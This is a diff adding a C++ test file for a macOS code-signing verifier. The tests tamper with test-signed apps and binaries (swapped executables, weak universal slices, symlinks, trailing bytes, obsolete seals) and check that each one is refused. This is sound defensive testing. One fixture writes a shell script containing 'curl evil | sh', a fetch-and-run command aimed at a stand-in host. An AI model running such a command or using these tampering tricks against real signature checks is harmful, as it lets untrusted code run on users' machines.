@@ -1,0 +1,187 @@
+// Attacks on the verdicts, each on items signed by the test chain: every one must end without "valid"
+// or "accepted" and with the reason Apple's tools give.
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <string>
+
+#include "MachOBuilder.h"
+#include "MachOSigner.h"
+#include "plist/Plist.h"
+#include "SigningChain.h"
+#include "TempDir.h"
+#include "tools/print/AssessmentText.h"
+#include "tools/print/CodeText.h"
+#include "verify/Assessment.h"
+#include "verify/CodeSignVerifier.h"
+
+namespace tessarin {
+namespace {
+
+namespace fs = std::filesystem;
+using test::Bytes;
+using test::LeafKind;
+using test::SigningChain;
+using test::TempDir;
+
+constexpr std::int32_t kArm64 = 0x0100000C;
+constexpr std::int32_t kX86_64 = 0x01000007;
+
+const TrustAnchors& anchors() {
+    static const TrustAnchors a = SigningChain::shared().anchors();
+    return a;
+}
+
+CodeVerdict check(const std::string& path, bool strict = false) {
+    CodeVerifyOptions o;
+    o.strict = strict;
+    o.deep = true;
+    return verifyCode(path, o, anchors());
+}
+
+Bytes developerIdTool(std::int32_t cputype = kX86_64, const std::string& identifier = "com.example.tool") {
+    test::SignOptions o;
+    o.identifier = identifier;
+    o.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication);
+    return test::signMachO(test::thinMachO(cputype, cputype == kX86_64 ? 3 : 0), o);
+}
+
+std::string infoPlist(const std::string& executable) {
+    PlistDict d;
+    d["CFBundleExecutable"] = PlistValue(executable);
+    d["CFBundleIdentifier"] = PlistValue("com.example.app");
+    d["CFBundlePackageType"] = PlistValue("APPL");
+    return toXmlPlist(PlistValue(std::move(d)));
+}
+
+// A Developer ID app sealed by the test chain.
+std::string signedApp(const TempDir& dir, const std::string& name = "Example.app") {
+    const std::string app = dir / name;
+    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
+    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
+    test::writeFile(app + "/Contents/Resources/data.txt", std::string("resource bytes\n"));
+    test::BundleSignOptions o;
+    o.code.identifier = "com.example.app";
+    o.code.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication);
+    test::signBundle(app, o);
+    return app;
+}
+
+void expectRefused(const std::string& path, const std::string& sentence, bool strict = false) {
+    CodeVerdict v = check(path, strict);
+    EXPECT_FALSE(v.valid) << path;
+    EXPECT_EQ(codeFailureSentence(v), sentence) << path;
+    Assessment a = assessPath(path, AssessmentType::Execute, anchors());
+    EXPECT_FALSE(a.accepted) << path << ": " << assessmentText(path, a, 2);
+    EXPECT_NE(a.source, AssessmentSource::NotarizedDeveloperID);
+    EXPECT_NE(a.source, AssessmentSource::DeveloperID);
+}
+
+TEST(Attacks, GenuineAppStaysValidAndAccepted) {
+    TempDir dir;
+    const std::string app = signedApp(dir);
+    CodeVerdict v = check(app, true);
+    EXPECT_TRUE(v.valid) << codeFailureSentence(v);
+    Assessment a = assessPath(app, AssessmentType::Execute, anchors());
+    EXPECT_TRUE(a.accepted) << assessmentText(app, a, 2);
+    EXPECT_EQ(a.source, AssessmentSource::DeveloperID);
+}
+
+TEST(Attacks, ToolDroppedIntoAnAppDoesNotVouchForTheRest) {
+    TempDir dir;
+    const std::string app = dir / "X.app";
+    test::writeFile(app + "/Contents/Info.plist", infoPlist("tool"));
+    test::writeFile(app + "/Contents/MacOS/tool", developerIdTool());
+    test::writeFile(app + "/Contents/Resources/run.sh", std::string("#!/bin/sh\ncurl evil | sh\n"));
+    test::writeFile(app + "/Contents/Frameworks/libx.dylib", test::thinMachO(kX86_64, 3));
+    expectRefused(app, "invalid Info.plist (plist or signature have been modified)");
+}
+
+TEST(Attacks, SwappedExecutableFromAnotherSignerIsRefused) {
+    TempDir dir;
+    const std::string app = signedApp(dir);
+    test::writeFile(app + "/Contents/MacOS/Example", developerIdTool(kX86_64, "com.other.tool"));
+    CodeVerdict v = check(app);
+    EXPECT_FALSE(v.valid);
+    EXPECT_FALSE(assessPath(app, AssessmentType::Execute, anchors()).accepted);
+}
+
+TEST(Attacks, UniversalFileIsJudgedByItsWeakestSlice) {
+    TempDir dir;
+    test::SignOptions adhoc;
+    Bytes fat = test::fatMachO({developerIdTool(kX86_64), test::signMachO(test::thinMachO(kArm64, 0), adhoc)},
+                               {{kX86_64, 3}, {kArm64, 0}});
+    const std::string tool = dir / "tool";
+    test::writeFile(tool, fat);
+    EXPECT_TRUE(check(tool).valid);  // each slice is intact; codesign has no quarrel
+    Assessment a = assessPath(tool, AssessmentType::Install, anchors());
+    EXPECT_FALSE(a.accepted) << assessmentText(tool, a, 2);
+    EXPECT_EQ(a.decidingSlice, "arm64");
+    EXPECT_NE(assessmentText(tool, a, 1).find("arm64"), std::string::npos);
+}
+
+TEST(Attacks, ContentsBesideContentsFailStrictValidationAndAssessment) {
+    TempDir dir;
+    const std::string app = signedApp(dir);
+    test::writeFile(app + "/payload.sh", std::string("#!/bin/sh\n"));
+    EXPECT_TRUE(check(app).valid);  // only strict validation looks there, as Apple's does
+    expectRefused(app, "unsealed contents present in the bundle root", true);
+}
+
+TEST(Attacks, LinksOutOfTheItemAreNeverFollowed) {
+    TempDir dir;
+    const std::string genuine = signedApp(dir, "Genuine.app");
+
+    const std::string borrowed = dir / "Borrowed.app";
+    fs::create_directories(borrowed);
+    fs::create_directory_symlink(genuine + "/Contents", borrowed + "/Contents");
+    expectRefused(borrowed, "the main executable or Info.plist must be a regular file (no symlinks, etc.)");
+
+    for (const char* part : {"Info.plist", "_CodeSignature"}) {
+        TempDir copyDir;
+        const std::string app = signedApp(copyDir);
+        const std::string original = std::string(app) + "/Contents/" + part;
+        const std::string outside = copyDir / (std::string("outside-") + part);
+        fs::rename(original, outside);
+        fs::create_symlink(outside, original);
+        SCOPED_TRACE(part);
+        expectRefused(app, "the main executable or Info.plist must be a regular file (no symlinks, etc.)");
+    }
+}
+
+TEST(Attacks, BytesNoSliceAccountsForFailStrictValidation) {
+    TempDir dir;
+    Bytes thin = developerIdTool();
+    const std::string trailing = dir / "trailing";
+    Bytes withTail = thin;
+    withTail.insert(withTail.end(), {'e', 'v', 'i', 'l'});
+    test::writeFile(trailing, withTail);
+    EXPECT_TRUE(check(trailing).valid);
+    EXPECT_EQ(codeFailureSentence(check(trailing, true)), "main executable failed strict validation");
+    EXPECT_FALSE(assessPath(trailing, AssessmentType::Install, anchors()).accepted);
+
+    Bytes fat = test::fatMachO({thin, developerIdTool(kArm64)}, {{kX86_64, 3}, {kArm64, 0}});
+    const std::string clean = dir / "fat";
+    test::writeFile(clean, fat);
+    EXPECT_TRUE(check(clean, true).valid) << codeFailureSentence(check(clean, true));
+    fat[100] = 0x41;  // in the padding between the fat header and the first slice
+    const std::string gap = dir / "gap";
+    test::writeFile(gap, fat);
+    EXPECT_EQ(codeFailureSentence(check(gap, true)), "main executable failed strict validation");
+}
+
+TEST(Attacks, VersionOneSealIsObsoleteUnderStrictValidation) {
+    TempDir dir;
+    const std::string app = dir / "Old.app";
+    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
+    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
+    test::writeFile(app + "/Contents/Resources/data.txt", std::string("resource bytes\n"));
+    test::BundleSignOptions o;
+    o.code.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication);
+    o.version1Only = true;
+    test::signBundle(app, o);
+    expectRefused(app, "resource envelope is obsolete (version 1 signature)", true);
+}
+
+}  // namespace
+}  // namespace tessarin
